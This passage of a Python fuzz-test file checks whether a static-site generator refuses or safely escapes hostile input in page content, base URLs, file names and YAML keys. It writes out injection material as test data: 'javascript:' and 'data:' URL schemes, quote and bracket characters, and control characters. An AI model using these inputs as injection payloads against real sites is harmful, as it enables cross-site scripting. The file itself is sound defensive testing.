    run = cli("build", "--content", str(folder / "content"), "--out", str(folder / "site"), *extra)
    return run, folder / "site", planted


@FUZZ
@given(values=st.lists(payloads(HOSTILE_ALPHABET), min_size=30, max_size=30))
def test_fuzz_hostile_text_reaches_no_output_as_code(
    cli: Callable[..., Run], tmp_path: Path, values: list[str]
) -> None:
    values = KNOWN + values
    bodies = KNOWN + MARKDOWN + values
    run, out, planted = _build(cli, tmp_path, values, bodies, "https://example.org/peru-timeline/")
    assert run.code == 0, run.err  # printable text, however hostile, is content: it must build
    check_outputs(out, planted, len(values) + len(MARKDOWN), PRINTABLE_TALLY)
    PRINTABLE_TALLY.report("printable payloads")


@settings(FUZZ, max_examples=2)
@given(values=st.lists(payloads(HOSTILE_ALPHABET + CONTROL_ALPHABET), min_size=30, max_size=30))
def test_fuzz_control_characters_are_refused_or_harmless(
    cli: Callable[..., Run], tmp_path: Path, values: list[str]
) -> None:
    values = [v + CONTROL_ALPHABET[i % len(CONTROL_ALPHABET)] + "x" for i, v in enumerate(values)]
    run, out, planted = _build(cli, tmp_path, values, values, "https://example.org/t/")
    if run.code != 0:
        assert refused_cleanly(run), run.err[-2000:]
        CONTROL_TALLY.refused += len(values)
    else:
        check_outputs(out, planted, len(values), CONTROL_TALLY)
    CONTROL_TALLY.report("payloads with control characters")


BASE_URL_TALLY = Tally()
URL_SAFE = "abcAZ09-._~/%"
URL_HOSTILE = "?#&;=+@!$'\"<> \\`{}|^[]()*,:\t"
BASE_URL_PATHS = st.one_of(
    st.text(alphabet=URL_SAFE, max_size=16),
    st.builds(
        lambda a, hostile, b: a + hostile + b,
        st.text(alphabet=URL_SAFE, max_size=8),
        st.text(alphabet=URL_HOSTILE, min_size=1, max_size=3),
        st.text(alphabet=URL_SAFE, max_size=8),
    ),
)


@settings(FUZZ, max_examples=2)
@given(
    candidates=st.lists(
        st.builds(
            lambda scheme, host, path: scheme + host + path,
            st.sampled_from(["https://", "http://", "", "/", "//", "javascript:", "HTTPS://", "data:"]),
            st.sampled_from(["example.org", "localhost:8000", "", "ex ample.org", 'ex"ample.org', "a.b-c.org:99"]),
            BASE_URL_PATHS,
        ),
        min_size=20,
        max_size=20,
        unique=True,
    ),
    override=BASE_URL_PATHS.filter(lambda path: any(ch in URL_HOSTILE for ch in path)),
)
def test_fuzz_base_url_is_refused_or_safe_in_every_output(
    cli: Callable[..., Run], tmp_path: Path, candidates: list[str], override: str
) -> None:
    folder = tmp_path / f"base-{next(BUILDS)}"
    site = folder / "content"
    plant(site, KNOWN, KNOWN + MARKDOWN, "/")
    original = (site / "site.yaml").read_text(encoding="utf-8")
    accepted = []
    for value in candidates:
        value = one_line(value) if value.strip() else "/"
        (site / "site.yaml").write_text(
            original.replace(f"base_url: {yaml_quoted('/')}\n", f"base_url: {yaml_quoted(value)}\n", 1),
            encoding="utf-8",
        )
        run = cli("check", "--content", str(site))
        BASE_URL_TALLY.count("base_url", 1)
        if run.code == 0:
            accepted.append(value)
            parts = urlsplit(value)
            if re.search(r"[\x00-\x20\"'<>\\`{}|^]", value) or parts.scheme not in ("", "http", "https"):
                BASE_URL_TALLY.injections.append(f"base_url {value!r} was accepted")
            if value.startswith("//") or parts.query or parts.fragment:
                BASE_URL_TALLY.injections.append(f"base_url {value!r} was accepted")
        else:
            assert refused_cleanly(run), run.err
            assert any("site.yaml:3: error: base_url " in problem for problem in run.problems), run.err
            BASE_URL_TALLY.refused += 1
    # A build with what was accepted (an absolute one first: it makes the feeds), and one with --base-url,
    # which site.yaml's rule does not see: whatever gets through must come out escaped.
    builds = sorted(set(accepted), key=lambda v: ("://" not in v, -len(v)))[:1]
    builds.append("https://example.org/" + one_line(override).replace("\t", ""))
    for number, value in enumerate(builds):
        given_in_site = number < len(builds) - 1
        run, out, planted = _build(cli, tmp_path, KNOWN, KNOWN + MARKDOWN, value, override=not given_in_site)
        if run.code != 0 and not given_in_site:
            # --base-url follows site.yaml's rule; a value it refuses is a usage error (exit 2, no traceback)
            assert run.code == 2 and "Traceback" not in run.err, run.err
            BASE_URL_TALLY.refused += 1
            continue
        assert run.code == 0, run.err
        check_outputs(out, planted, len(KNOWN), BASE_URL_TALLY)
    BASE_URL_TALLY.report("base_url variants")


ANNOTATION_TALLY = Tally()
FILE_NAME_ALPHABET = ",:%=\n\r\u2028\u2029\x85 ab09-.é中🙂\"'<>&;\\|"


@FUZZ
@given(
    names=st.lists(
        st.text(alphabet=FILE_NAME_ALPHABET, min_size=1, max_size=30).map(lambda s: s + ".md"),
        min_size=12,
        max_size=12,
        unique=True,
    ),
    keys=st.lists(st.text(alphabet=FILE_NAME_ALPHABET, min_size=1, max_size=20), min_size=4, max_size=4, unique=True),
    urls=st.lists(payloads(HOSTILE_ALPHABET + "\u2028\x85"), min_size=4, max_size=4),
)
def test_fuzz_problem_reports_keep_file_line_and_message(
    cli: Callable[..., Run], make_site: Callable[..., Path], names: list[str], keys: list[str], urls: list[str]
) -> None:
    names = [n for n in names if not n.startswith(".") and len(n.encode()) < 200]
    # Hostile text also reaches messages: an unknown key and a URL that is not one are quoted back.
    extra = "".join(f"{yaml_quoted(key)}: 1\n" for key in keys)
    bad_urls = "".join(f"  - title: t\n    url: {yaml_quoted(one_line(u))}\n" for u in urls)
    entries = (
        f"---\ntitle: x\ndate: 1980\n{extra}sources: [{{title: t, publisher: p}}]\n---\nBody.\n",
        f"---\ntitle: x\ndate: 1980\nsources:\n{bad_urls}---\nBody.\n",
    )
    site = make_site({f"events/1980/{name}": entries[i % 2] for i, name in enumerate(HOSTILE_FILE_NAMES + names)})
    found = _check_reports(cli, ANNOTATION_TALLY)
    assert found > len(names)
    for name in HOSTILE_FILE_NAMES + names:
        (site / "events/1980" / name).unlink()
    ANNOTATION_TALLY.report("problem reports (github, json, jsonl)")
